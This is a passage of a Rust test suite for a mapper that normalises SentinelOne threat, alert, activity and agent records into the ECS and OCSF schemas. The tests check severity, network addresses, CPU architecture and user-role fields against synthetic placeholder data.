        assert_fields(&map_to(Schema::Ecs, Stream::Threats, &threat), &[("event.severity", json!(73))]);
        let unified = json!({"id": "u", "severity": "HIGH", "analystVerdict": "FALSE_POSITIVE_BENIGN"});
        assert_fields(&map_to(Schema::Ocsf, Stream::UnifiedAlerts, &unified), &[("severity_id", json!(4))]);
    }
}

#[test]
fn switching_a_protection_off_is_more_severe_than_switching_it_on() {
    let switch = |number, value| activity(number, json!({"userId": "7"}), json!({"username": "u", "newValue": value}));
    for number in [56, 68, 76, 84, 105] {
        for (value, severity) in
            [(json!(true), 21), (json!("on"), 21), (json!(false), 47), (json!("Off"), 47), (json!({"engines": 1}), 0)]
        {
            let record = switch(number, value.clone());
            let event = map_to(Schema::Ecs, Stream::Activities, &record);
            if severity > 0 {
                assert_fields(&event, &[("event.severity", json!(severity))]);
            }
            let mut record = record;
            record["siteName"] = json!("s");
            let event = map_to(Schema::Ocsf, Stream::Activities, &record);
            // What is written as the entity is the site, which nobody switched off.
            assert_fields(&event, &[("activity_id", json!(3))]);
        }
    }
    for (value, activity_id) in [("on", 8), ("off", 9), ("?", 3)] {
        let mut record = switch(3500, json!(value));
        record["siteName"] = json!("s");
        assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &record), &[("activity_id", json!(activity_id))]);
    }
    let mut record = switch(76, json!("off"));
    record["siteName"] = json!("Site");
    check("protection-off", Stream::Activities, &record, &[("event.severity", json!(47))], &[]);
    let factor = |value| map_to(Schema::Ocsf, Stream::Activities, &switch(67, json!(value)));
    assert_fields(&factor(true), &[("activity_name", json!("Enable MFA Factors")), ("severity_id", json!(2))]);
    assert_fields(&factor(false), &[("activity_name", json!("Disable MFA Factors")), ("severity_id", json!(3))]);
}

#[test]
fn files_and_hosts_have_the_same_fields_in_all_streams() {
    let threat =
        threat(json!({"filePath": "/a/x.EXE"}), json!({"agentRealtimeInfo": {"agentOsType": "windows_legacy"}}));
    let alert = json!({"targetProcessInfo": {"tgtFilePath": "C:\\a\\x.EXE"}, "agentDetectionInfo": {"osFamily": "windows_legacy"},
        "agentRealtimeInfo": {"name": "c"}});
    let unified = json!({"process": {"file": {"name": "x.EXE"}}, "assets": [{"name": "c", "category": "Server",
        "osType": "WINDOWS_LEGACY"}]});
    let activity = activity(
        19,
        json!({"threatId": "5", "agentId": "8", "osFamily": "windows_legacy"}),
        json!({"filePath": "C:\\a\\x.EXE", "fileDisplayName": "x.EXE"}),
    );
    for (stream, record) in [
        (Stream::Threats, threat),
        (Stream::Alerts, alert),
        (Stream::UnifiedAlerts, unified),
        (Stream::Activities, activity),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("file.extension", json!("exe")), ("host.os.family", json!("windows_legacy"))]);
    }
    let key = json!({"alertInfo": {"alertId": "9", "registryKeyPath": "MACHINE\\SOFTWARE\\Run\\x", "registryValue": "1",
        "eventType": "REGVALUEMODIFIED"}});
    let event = map_to(Schema::Ocsf, Stream::Alerts, &key);
    assert_eq!(event["evidences"][0]["reg_value"]["path"], json!("HKLM\\SOFTWARE\\Run"));
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new());
}

#[test]
fn values_are_at_the_paths_of_elastics_package() {
    let of_threat = threat(
        json!({"classificationSource": "Cloud"}),
        json!({"agentRealtimeInfo": {"siteId": "5", "siteName": "Site", "accountName": "Acme", "agentId": "11"}}),
    );
    let site = json!({"id": "5", "name": "Site"});
    let of_threats = [
        ("sentinel_one.site", site.clone()),
        ("sentinel_one.account", json!({"name": "Acme"})),
        ("sentinel_one.threat_classification", json!({"name": "Malware", "source": "Cloud"})),
        ("sentinel_one.threat.confidence_level", json!("malicious")),
        ("sentinel_one.threat.agent.id", json!("11")),
    ];
    assert_fields(&map_to(Schema::Ecs, Stream::Threats, &of_threat), &of_threats);
    let about_threat = activity(
        19,
        json!({"threatId": "5", "siteId": "5", "siteName": "Site", "accountName": "Acme"}),
        json!({"threatClassification": "Malware", "threatClassificationSource": "Cloud", "confidenceLevel": "malicious"}),
    );
    let event = map_to(Schema::Ecs, Stream::Activities, &about_threat);
    assert_fields(&event, &of_threats[..4]);
    assert_fields(&event, &[("sentinel_one.threat.id", json!("5"))]);
    let agent = json!({"id": "11", "siteId": "5", "siteName": "Site", "accountName": "Acme"});
    let event = map_to(Schema::Ecs, Stream::Agents, &agent);
    assert_fields(&event, &of_threats[..2]);
    assert_fields(&event, &[("sentinel_one.agent.agent.id", json!("11"))]);
    let scope = json!({"site": {"id": "5", "name": "Site"}, "account": {"name": "Acme"}});
    let unified = json!({"id": "u", "realTime": {"scope": scope}});
    assert_fields(&map_to(Schema::Ecs, Stream::UnifiedAlerts, &unified), &of_threats[..2]);
    let alert = json!({"agentRealtimeInfo": {"id": "11"}, "agentDetectionInfo": {"siteId": "5"}});
    let event = map_to(Schema::Ecs, Stream::Alerts, &alert);
    assert_fields(&event, &[("sentinel_one.alert.agent.id", json!("11")), ("sentinel_one.site", json!({"id": "5"}))]);
    let group = json!({"id": "7", "siteId": "5"});
    assert_fields(&map_to(Schema::Ecs, Stream::Groups, &group), &[("sentinel_one.site", json!({"id": "5"}))]);
}

#[test]
fn a_number_whose_meaning_is_a_guess_is_a_base_event() {
    for number in [2017, 6003, 7100, 16_006] {
        let record = activity(number, json!({"siteName": "s"}), json!({"username": "u"}));
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[("class_uid", json!(0)), ("activity_id", json!(99))]);
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_fields(&event, &[("event.category", json!(["configuration"])), ("event.type", json!(["info"]))]);
    }
    check(
        "disconnected-as-mitigation",
        Stream::Activities,
        &activity(2005, json!({"agentId": "8", "threatId": "5"}), json!({"computerName": "c"})),
        &[("event.category", json!(["host"])), ("event.outcome", json!("success"))],
        &[("class_uid", json!(7001)), ("disposition", json!("Isolated"))],
    );
    let record = activity(16_002, json!({}), json!({"alertId": "01911119-abcd"}));
    let event = map_to(Schema::Ocsf, Stream::Activities, &record);
    assert_fields(&event, &[("class_uid", json!(2004)), ("activity_name", json!("Update"))]);
    let event = map_to(Schema::Ecs, Stream::Activities, &record);
    assert_fields(&event, &[("event.action", json!("unified-alert-analyst-verdict-changed"))]);
}

#[test]
fn an_activity_whose_data_has_a_threat_is_about_it() {
    let record = activity(9999, json!({"threatId": null}), json!({"threatId": "5", "fileDisplayName": "a.exe"}));
    let event = map_to(Schema::Ecs, Stream::Activities, &record);
    assert_fields(&event, &[("event.category", json!(["malware"])), ("sentinel_one.threat.id", json!("5"))]);
    let event = map_to(Schema::Ocsf, Stream::Activities, &record);
    assert_fields(&event, &[("class_uid", json!(2004)), ("finding_info.uid", json!("5"))]);
}

#[test]
fn a_new_confidence_is_the_one_that_counts() {
    let record = activity(
        2036,
        json!({"threatId": "5"}),
        json!({"newConfidenceLevel": "malicious", "confidenceLevel": "suspicious"}),
    );
    assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("event.severity", json!(73))]);
    assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &record), &[("confidence", json!("High"))]);
}

#[test]
fn a_firewall_and_a_device_name_both_ends() {
    let rule = json!({"ruleId": "1", "ruleName": "block smb", "ruleDescription": "no shares", "application": "C:\\a\\b.exe",
        "processName": "b.exe", "direction": "any", "protocol": "any", "localHost": "any", "remoteHost": "any"});
    let with = |others: Value| {
        let mut data = rule.clone();
        others.as_object().unwrap().iter().for_each(|(key, value)| data[key] = value.clone());
        activity(5232, json!({"agentId": "8", "siteName": "s"}), data)
    };
    let ecs = [
        ("source.ip", json!("10.0.0.1")),
        ("destination.ip", json!("192.0.2.7")),
        ("destination.port", json!(445)),
        ("network.direction", json!("egress")),
        ("rule", json!({"id": "1", "name": "block smb", "description": "no shares"})),
    ];
    let ocsf = [
        ("dst_endpoint", json!({"ip": "192.0.2.7", "port": 445})),
        ("connection_info.direction", json!("Outbound")),
        ("firewall_rule", json!({"uid": "1", "name": "block smb", "desc": "no shares"})),
    ];
    let reported =
        with(json!({"reportedLocalHost": "10.0.0.1", "reportedRemoteHost": "192.0.2.7", "reportedRemotePort": "445",
        "reportedDirection": "outbound", "reportedProtocol": "tcp"}));
    check("firewall-as-reported", Stream::Activities, &reported, &ecs, &ocsf);
    let plain =
        with(json!({"localHost": "10.0.0.1", "remoteHost": "192.0.2.7", "port": "445", "direction": "outbound",
        "protocol": "tcp"}));
    check("firewall", Stream::Activities, &plain, &ecs, &ocsf);
    let device = json!({"deviceName": "Flash", "eventType": "connected", "ipAddress": "10.1.2.3", "computerName": "c",
        "uId": "0951:1666", "deviceClass": "08h"});
    check(
        "device-connected",
        Stream::Activities,
        &activity(5126, json!({"agentId": "8"}), device),
        &[("source.ip", json!("10.1.2.3")), ("host.ip", json!(["10.1.2.3"])), ("device.id", json!("0951:1666"))],
        &[("device.ip", json!("10.1.2.3")), ("peripheral_device.uid", json!("0951:1666"))],
    );
}

#[test]
fn a_device_has_the_address_that_the_console_names() {
    let interfaces = json!([
        {"id": "1", "name": "veth12ab", "physical": "42:b2:00:00:00:01", "inet": [], "inet6": ["fe80::40b2:1"]},
        {"id": "2", "name": "br-0123456789ab", "physical": "02:42:00:00:00:02", "inet": ["172.18.0.1"], "inet6": []},
        {"id": "3", "name": "docker0", "physical": "02:42:00:00:00:03", "inet": ["172.17.0.1"], "inet6": []},
        {"id": "4", "name": "eth0", "physical": "00:50:56:00:00:04", "inet": ["10.32.0.165"], "inet6": ["fe80::250:4"]}]);
    check(
        "threat-of-a-container-host",
        Stream::Threats,
        &threat(
            json!({}),
            json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces},
                "agentDetectionInfo": {"agentIpV4": "10.32.0.165,172.18.0.1,172.17.0.1"}}),
        ),
        &[("host.ip", json!(["10.32.0.165", "172.18.0.1", "172.17.0.1", "fe80::40b2:1", "fe80::250:4"]))],
        &[("device.ip", json!("10.32.0.165")), ("device.mac", json!("00:50:56:00:00:04"))],
    );
    let lo = json!({"id": "0", "name": "lo", "physical": "00:00:00:00:00:00", "inet": ["127.0.0.1"], "inet6": ["::1"]});
    let eth = |name: &str, mac: &str, inet: Value| json!({"id": "1", "name": name, "physical": mac, "inet": inet});
    let agent = |ip: &str, interfaces: Value| json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": ip, "networkInterfaces": interfaces, "externalIp": "203.0.113.9"});
    let [first, second] = ["00:50:56:00:00:01", "00:50:56:00:00:02"];
    let two = json!([lo, eth("eth0", first, json!(["10.21.10.88"])), eth("eth1", second, json!(["9.46.92.211"]))]);
    check(
        "agent-with-two-interfaces",
        Stream::Agents,
        &agent("9.46.92.211", two.clone()),
        &[
            ("host.ip", json!(["9.46.92.211", "10.21.10.88", "203.0.113.9"])),
            ("host.mac", json!(["00-50-56-00-00-01", "00-50-56-00-00-02"])),
        ],
        &[("device.ip", json!("9.46.92.211")), ("device.mac", json!(second))],
    );
    let docker = |name: &str| eth(name, "02:42:00:00:00:09", json!(["172.17.0.1"]));
    for (record, ip, mac) in [
        (agent("10.1.1.5", json!([lo])), json!("10.1.1.5"), Value::Null),
        (agent("", two.clone()), json!("10.21.10.88"), json!(first)),
        (agent("127.0.0.1", two), json!("10.21.10.88"), json!(first)),
        // A VPN's address is in no list.
        (agent("10.8.0.2", json!([lo, eth("en0", first, json!(["10.1.1.5"]))])), json!("10.8.0.2"), json!(first)),
        (agent("", json!([docker("docker0"), eth("en0", first, json!(["fd00::5"]))])), json!("fd00::5"), json!(first)),
        (agent("", json!([docker("docker0")])), json!("203.0.113.9"), Value::Null),
        (agent("172.17.0.1", json!([docker("")])), json!("203.0.113.9"), Value::Null),
        (agent("172.17.0.1", json!([docker("Ethernet0")])), json!("172.17.0.1"), json!("02:42:00:00:00:09")),
        (agent("", json!([eth("eth0", first, json!(["169.254.1.1", "fd00::5"]))])), json!("fd00::5"), json!(first)),
        (agent("", json!([eth("br-ex", first, json!(["10.0.0.7"]))])), json!("10.0.0.7"), json!(first)),
        (
            agent(
                "",
                json!([
                    eth("vEthernet (WSL)", second, json!(["172.29.160.1"])),
                    eth("vEthernet (External)", first, json!(["10.0.0.7"]))
                ]),
            ),
            json!("10.0.0.7"),
            json!(first),
        ),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Agents, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.ip", ip), ("device.mac", mac)]);
    }
}

/// Adapters of virtual machines and VPNs have the same addresses on many endpoints.
#[test]
fn a_virtual_network_represents_no_device() {
    let one = |name: &str, mac: &str, ip: &str| json!({"name": name, "physical": mac, "inet": [ip]});
    let [real, virtual_box, tap] = ["98:fa:9b:5f:f2:bd", "0A:00:27:00:00:0B", "00:ff:79:00:00:01"];
    let ethernet = one("Ethernet", real, "10.4.4.69");
    let both = json!([ethernet, one("Ethernet 2", virtual_box, "192.168.56.1")]);
    let wifi = one("Wi-Fi", real, "192.168.2.69");
    for (named, interfaces, ip, mac) in [
        ("192.168.56.1,10.4.4.69", both, "10.4.4.69", json!(real)),
        ("172.20.9.1,10.4.4.69", json!([one("X", tap, "172.20.9.1"), ethernet]), "10.4.4.69", json!(real)),
        ("100.64.0.1,192.168.2.69", json!([one("Ethernet 3", tap, "100.64.0.1"), wifi]), "192.168.2.69", json!(real)),
        ("192.168.137.1,192.168.2.69", json!([wifi]), "192.168.2.69", json!(real)),
        (
            "",
            json!([{"inet": ["192.168.2.61"]}, {"inet": ["100.64.0.1"], "physical": tap}]),
            "192.168.2.61",
            json!(null),
        ),
        ("", json!([one("nomad", "32:a1:00:00:00:01", "172.26.64.1"), ethernet]), "10.4.4.69", json!(real)),
        ("", json!([{"name": "utun3", "inet": ["10.8.0.2"]}, ethernet]), "10.4.4.69", json!(real)),
        // Nobody knows which interface it is.
        ("10.9.9.9", json!([ethernet, one("Ethernet 2", "98:fa:9b:00:00:02", "10.4.4.70")]), "10.9.9.9", json!(null)),
        ("10.9.9.9", json!([ethernet, one("VLAN", &real.to_uppercase(), "10.4.5.69")]), "10.9.9.9", json!(real)),
        ("", json!([one("Ethernet 2", virtual_box, "192.168.56.1")]), "192.168.56.1", json!(null)),
    ] {
        let record = threat(
            json!({}),
            json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces},
                "agentDetectionInfo": {"agentIpV4": named}}),
        );
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.ip", json!(ip)), ("device.mac", mac)]);
    }
    for (macs, mac) in
        [(real.to_owned(), json!(real)), (format!("{real}, {tap}"), json!(real)), (tap.to_owned(), json!(null))]
    {
        let data = json!({"alertid": "5", "rulename": "r", "agentipv4": "10.4.4.69,100.64.0.1", "physical": macs});
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(3608, json!({"agentId": "9"}), data));
        assert_fields(&event, &[("device.ip", json!("10.4.4.69")), ("device.mac", mac)]);
    }
}

/// The interfaces of VPNs, tunnels and virtual machines of a host have the same addresses on many endpoints.
#[test]
fn a_tunnel_and_a_virtual_machine_represent_no_device() {
    let one = |name: &str, mac: &str, ip: &str| json!({"name": name, "physical": mac, "inet": [ip]});
    let mac = "9c:fc:e8:11:22:33";
    for (name, other_mac, ip) in [
        ("CloudflareWARP", "", "172.16.0.2"),
        ("wg0", "00:00:00:00:00:00", "10.66.66.2"),
        ("utun3", "", "10.8.0.6"),
        ("ppp0", "", "10.9.0.6"),
        ("vEthernet (DockerNAT)", "00:15:5d:aa:bb:cd", "10.0.75.1"),
        ("vnic0", "00:1c:42:00:00:08", "10.211.55.2"),
        ("Parallels Shared", "00:1c:42:00:00:18", "10.211.55.2"),
        ("Ethernet 7", "00:1c:42:00:00:18", "10.211.55.2"),
        ("bridge102", "be:d0:74:50:d8:66", "192.168.2.1"),
        ("bridge109", "be:d0:74:50:d8:66", "192.168.2.1"),
        ("mpqemubr0", "52:54:00:aa:bb:cd", "10.1.2.1"),
        ("crc", "52:54:00:aa:bb:ce", "192.168.130.11"),
    ] {
        let interfaces = json!([one(name, other_mac, ip), one("Wi-Fi", mac, "192.168.129.2")]);
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": ip, "networkInterfaces": interfaces});
        let others = json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces},
            "agentDetectionInfo": {"agentIpV4": format!("{ip},192.168.129.2")}});
        for (stream, record) in [(Stream::Agents, agent), (Stream::Threats, threat(json!({}), others))] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event["device"], &[("ip", json!("192.168.129.2")), ("mac", json!(mac))]);
        }
    }
    // Without interfaces, nobody knows that it is a tunnel. A bridge of the host has the host's address.
    for (named, interfaces, expected) in [
        ("172.16.0.2,192.168.129.2", json!([]), "172.16.0.2"),
        ("10.8.0.6", json!([one("wwan0", "", "10.8.0.6")]), "10.8.0.6"),
        ("10.1.1.5", json!([one("bridge10", mac, "10.1.1.5"), one("eth0", mac, "10.1.1.6")]), "10.1.1.5"),
        ("10.1.1.5", json!([one("eth0", "00:1c:42:ab:cd:ef", "10.1.1.5"), one("eth1", mac, "10.1.1.6")]), "10.1.1.5"),
    ] {
        let record = threat(
            json!({}),
            json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces},
                "agentDetectionInfo": {"agentIpV4": named}}),
        );
        assert_fields(&map_to(Schema::Ocsf, Stream::Threats, &record), &[("device.ip", json!(expected))]);
    }
}

/// Each Mac has `fe80::1`.
#[test]
fn a_link_local_address_represents_a_device_only_without_another() {
    for (external, expected) in [("203.0.113.1", "203.0.113.1"), ("", "fe80::1")] {
        let detected = json!({"agentIpV4": "127.0.0.1", "agentIpV6": "::1,fe80::1", "externalIp": external});
        let record = threat(json!({}), json!({"agentRealtimeInfo": {"agentId": "9"}, "agentDetectionInfo": detected}));
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.ip", json!(expected))]);
    }
}

#[test]
fn a_cloud_of_which_nothing_is_said_is_none() {
    let agent = json!({"id": "9", "cloudProviders": {
        "AWS": {"cloudAccount": null, "cloudInstanceId": "", "cloudSecurityGroups": []},
        "Azure": {"cloudAccount": "a-1", "cloudInstanceId": "vm-1"}}});
    assert_fields(
        &map_to(Schema::Ecs, Stream::Agents, &agent),
        &[("cloud.provider", json!("azure")), ("cloud.account.id", json!("a-1"))],
    );
    assert_fields(&map_to(Schema::Ocsf, Stream::Agents, &agent), &[("cloud.provider", json!("Azure"))]);
}

#[test]
fn the_make_of_a_processor_is_no_matter_of_its_width() {
    check(
        "agent-on-apple-silicon",
        Stream::Agents,
        &json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "mac", "osType": "macos", "osArch": "64 bit", "cpuId": "Apple M1 Pro"}),
        &[("host.architecture", json!("arm64"))],
        &[
            ("device.os.cpu_bits", json!(64)),
            (
                "device.hw_info",
                json!({"cpu_info_list": [{"model": "Apple M1 Pro", "vendor_name": "Apple", "cpu_bits": 64,
                    "cpu_architecture_id": 2, "cpu_architecture": "ARM"}]}),
            ),
        ],
    );
    for (bits, cpu, os, ecs, ocsf) in [
        ("64 bit", "Apple M3", "", "arm64", "ARM"),
        ("64 bit", "VirtualApple @ 2.50GHz", "", "arm64", "ARM"),
        ("64 bit", "Snapdragon(R) X Elite - X1E80100 - Qualcomm(R) Oryon(TM) CPU", "", "arm64", "ARM"),
        ("64 bit", "Neoverse-N1", "", "arm64", "ARM"),
        ("64 bit", "ARM Cortex-A72", "", "arm64", "ARM"),
        ("64 bit", "Cortex-A72", "", "arm64", "ARM"),
        ("64 bit", "", "Linux arm64", "arm64", "ARM"),
        ("64 bit", "Intel(R) Core(TM) i7-8665U CPU @ 1.90GHz", "", "x86_64", "x86"),
        ("64 bit", "AMD EPYC 7R13 Processor", "", "x86_64", "x86"),
        ("32 bit", "Intel(R) Pentium(R) CPU", "", "x86", "x86"),
        ("ARM64", "", "", "arm64", "ARM"),
        ("x86_64", "", "", "x86_64", "x86"),
        ("64 bit", "Charm CPU", "", "", ""),
        ("64 bit", "Armored Core Processor", "", "", ""),
        ("64 bit", "ARMv8 Processor rev 3 (v8l)", "", "arm64", "ARM"),
        ("64 bit", "QEMU Virtual CPU version 2.5+", "", "", ""),
        ("32 bit", "ARM", "", "arm", "ARM"),
        ("32 bit", "ARMv7 Processor rev 4 (v7l)", "", "arm", "ARM"),
        ("", "ARMv7 Processor rev 4 (v7l)", "", "arm", "ARM"),
        ("64 bit", "Pentium Dual-Core CPU E5700", "", "x86_64", "x86"),
        ("64 bit", "Celeron N4020", "", "x86_64", "x86"),
        ("64 bit", "Westmere E56xx/L56xx/X56xx (Nehalem-C)", "", "x86_64", "x86"),
        ("64 bit", "Hygon C86 7185 32-core Processor", "", "x86_64", "x86"),
        ("64 bit", "ZHAOXIN KaiXian KX-6640MA", "", "x86_64", "x86"),
        ("64 bit", "VIA Nano processor U2250 (1.6GHz Capable)", "", "x86_64", "x86"),
        ("32 bit", "VIA C7-M Processor 1600MHz", "", "x86", "x86"),
        ("32 bit", "AMD64 Family 25", "", "x86", "x86"),
        ("64 bit", "", "Amazon Linux 2 4.14.355-276.amzn2.x86_64", "x86_64", "x86"),
        ("", "", "Debian 12 6.1.0-29-amd64", "x86_64", "x86"),
        ("64 bit", "", "CentOS 8 4.18.0-553.el8.aarch64", "arm64", "ARM"),
        ("64 bit", "", "Ubuntu 20.04.3 LTS 5.4.0-91-generic", "", ""),
    ] {
        let (name, revision) = os.split_once(' ').unwrap_or((os, ""));
        let record = json!({"id": "9", "osArch": bits, "cpuId": cpu, "osName": name, "osRevision": revision});
        let value = |text: &str| if text.is_empty() { Value::Null } else { json!(text) };
        assert_fields(&map_to(Schema::Ecs, Stream::Agents, &record), &[("host.architecture", value(ecs))]);
        let event = map_to(Schema::Ocsf, Stream::Agents, &record);
        let architecture = event.pointer("/device/hw_info/cpu_info_list/0/cpu_architecture");
        assert_eq!(architecture.unwrap_or(&Value::Null), &value(ocsf), "{event:#}");
    }
    // The cores of a processor are known if it is the only one.
    for (count, cores) in [(1, json!(8)), (2, Value::Null)] {
        let record = json!({"id": "9", "cpuId": "AMD EPYC 7R13", "cpuCount": count, "coreCount": 8});
        let hardware = &map_to(Schema::Ocsf, Stream::Agents, &record)["device"]["hw_info"];
        assert_eq!((&hardware["cpu_count"], &hardware["cores"]), (&json!(count), &json!(8)));
        let processor = &hardware["cpu_info_list"][0];
        assert_eq!((&processor["vendor_name"], &processor["cores"]), (&json!("AMD"), &cores));
    }
}

#[test]
fn every_stream_has_the_architecture_that_its_system_names() {
    let debian = "Debian GNU/Linux 12 (bookworm) 6.1.0-29-amd64";
    for (stream, record) in [
        (
            Stream::Threats,
            threat(
                json!({}),
                json!({"agentRealtimeInfo": {"agentId": "8", "agentOsName": "Linux", "agentOsRevision": debian}}),
            ),
        ),
        (
            Stream::Threats,
            threat(json!({}), json!({"agentDetectionInfo": {"agentOsName": "Linux", "agentOsRevision": debian}})),
        ),
        (
            Stream::Alerts,
            json!({"alertInfo": {"alertId": "1"}, "agentDetectionInfo": {"name": "c", "osName": "linux", "osRevision": debian}}),
        ),
        (
            Stream::UnifiedAlerts,
            json!({"id": "1", "detectionTime": {"asset": {"name": "c", "osType": "linux", "osName": "Linux", "osRevision": debian}}}),
        ),
        (
            Stream::Activities,
            activity(
                3608,
                json!({"agentId": "8"}),
                json!({"alertid": "1", "rulename": "r", "origagentosname": "Linux", "origagentosrevision": debian}),
            ),
        ),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("host.architecture", json!("x86_64"))]);
    }
}

#[test]
fn the_type_of_a_user_is_by_the_role_of_that_user() {
    check(
        "administrator-added",
        Stream::Activities,
        &activity(23, json!({"userId": "7"}), json!({"byUser": "admin", "username": "dave", "role": "Admin"})),
        &[("user.target.roles", json!(["Admin"]))],
        &[("user.name", json!("dave")), ("user.type", json!("Admin")), ("actor.user.type", json!("Unknown"))],
    );
    for (number, data, actor, target) in [
        (23, json!({"byUser": "admin", "username": "dave", "role": "Viewer"}), "Unknown", "User"),
        (37, json!({"byUser": "admin", "username": "dave", "roleName": "Site Admin"}), "Unknown", "Admin"),
        (25, json!({"byUser": "admin", "username": "dave"}), "Unknown", "Unknown"),
        (27, json!({"username": "dave", "role": "Admin"}), "Admin", "Admin"),
        // Nobody of this name exists.
        (
            134,
            json!({"username": "mallory@x.example", "source": "mgmt", "ipAddress": "203.0.113.9"}),
            "Unknown",
            "Unknown",
        ),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(number, json!({"userId": "7"}), data));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("actor.user.type", json!(actor)), ("user.type", json!(target))]);
    }
    // An analyst, the one who is assigned, and who marked a threat: nobody says their role.
    let note = activity(4020, json!({"userId": "7", "threatId": "1"}), json!({"username": "jane"}));
    let assigned = json!({"id": "1", "assignee": {"userId": "7", "fullName": "Jane Doe"}});
    let marked =
        threat(json!({"initiatedBy": "star_manual", "initiatingUsername": "jane", "initiatingUserId": "7"}), json!({}));
    for (stream, record, path) in [
        (Stream::Activities, note, "actor.user.type"),
        (Stream::UnifiedAlerts, assigned, "assignee.type"),
        (Stream::Threats, marked, "actor.user.type"),
    ] {
        assert_fields(&map_to(Schema::Ocsf, stream, &record), &[(path, json!("Unknown"))]);
    }
}

#[test]
fn a_later_activity_does_not_lower_a_finding() {
    let data = |more: Value| {
        let mut data = json!({"computerName": "web-1", "fileDisplayName": "x.exe"});
        data.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        data
    };
    let about = |number, more: Value| activity(number, json!({"threatId": "9001", "userId": "7"}), data(more));
    let detected = json!({"threatClassification": "Ransomware", "confidenceLevel": "malicious"});
    let event = |record: &Value| {
        let event = map_to(Schema::Ocsf, Stream::Activities, record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("class_uid", json!(2004)), ("finding_info.uid", json!("9001"))]);
        event
    };
    for number in [18, 19, 20] {
        assert_fields(
            &event(&about(number, detected.clone())),
            &[("severity", json!("Critical")), ("status", json!("New")), ("is_alert", json!(true))],
        );
    }
    let none = || Value::Null;
    for (number, more, severity, status, verdict) in [
        (4020, json!({}), "Unknown", none(), none()),
        (4021, json!({}), "Unknown", none(), none()),
        (2029, json!({"newTicketId": "T-1"}), "Unknown", none(), none()),
        (2030, json!({"newAnalystVerdict": "true_positive"}), "Unknown", none(), json!("True Positive")),
        (4008, json!({"newStatus": "mitigated"}), "Unknown", none(), none()),
        (4008, json!({"newStatus": "active"}), "Unknown", none(), none()),
        (2028, json!({"newIncidentStatus": "in_progress"}), "Unknown", json!("In Progress"), none()),
        (2028, json!({"newStatus": "resolved"}), "Unknown", json!("Resolved"), none()),
        (2028, json!({"newIncidentStatus": "on_hold"}), "Unknown", json!("on_hold"), none()),
        (2028, json!({}), "Unknown", none(), none()),
        (2037, json!({"newConfidenceLevel": "malicious", "confidenceLevel": "suspicious"}), "High", none(), none()),
        (2037, json!({}), "Unknown", none(), none()),
        (4001, json!({}), "High", none(), none()),
        (4020, detected.clone(), "Critical", none(), none()),
        (21, json!({}), "Unknown", json!("Resolved"), none()),
        (34, json!({}), "Unknown", json!("New"), none()),
        (22, json!({}), "Unknown", json!("Resolved"), json!("Benign")),
        (4007, json!({}), "Unknown", json!("Resolved"), json!("Benign")),
        (4102, json!({}), "Unknown", none(), none()),
    ] {
        let event = event(&about(number, more.clone()));
        assert_eq!(at(&event, "severity"), severity, "{number} {more}: {event:#}");
        assert_eq!(
            [at(&event, "status"), at(&event, "verdict"), at(&event, "is_alert")],
            [&status, &verdict, &Value::Null],
            "{number} {more}: {event:#}"
        );
    }
    check(
        "note-on-a-threat",
        Stream::Activities,
        &about(4020, json!({})),
        &[("event.kind", json!("event")), ("event.severity", json!(21)), ("sentinel_one.threat.id", json!("9001"))],
        &[("severity_id", json!(0)), ("status_id", Value::Null), ("is_alert", Value::Null)],
    );
    // For a unified alert, the keys are those of an incident.
    for (number, more, status, verdict) in [
        (16001, json!({"newStatus": "RESOLVED"}), json!("Resolved"), none()),
        (16001, json!({"newStatus": "IN_PROGRESS"}), json!("In Progress"), none()),
        (16001, json!({"newStatus": "ESCALATED"}), json!("ESCALATED"), none()),
        (16001, json!({"payload": {"changes": {"new_status": "RESOLVED"}}}), json!("Resolved"), none()),
        (16002, json!({"newAnalystVerdict": "FALSE_POSITIVE_BENIGN"}), none(), json!("False Positive")),
        (16000, json!({}), json!("New"), none()),
    ] {
        let is_flat = more.get("payload").is_none();
        let alert = if is_flat { json!({"alertId": "9001"}) } else { json!({"alert": {"id": "9001"}}) };
        let mut record = activity(number, json!({}), alert);
        record["data"].as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let event = event(&record);
        assert_eq!([at(&event, "status"), at(&event, "verdict")], [&status, &verdict], "{number} {more}: {event:#}");
        assert_fields(&event, &[("severity", json!("Unknown"))]);
        if number == 16001 {
            let status = more.pointer("/payload/changes/new_status").unwrap_or(&more["newStatus"]);
            let reason = [("event.reason", status.clone())];
            assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &reason);
        }
    }
}

#[test]
fn the_severity_of_a_threat_is_by_the_threat_alone() {
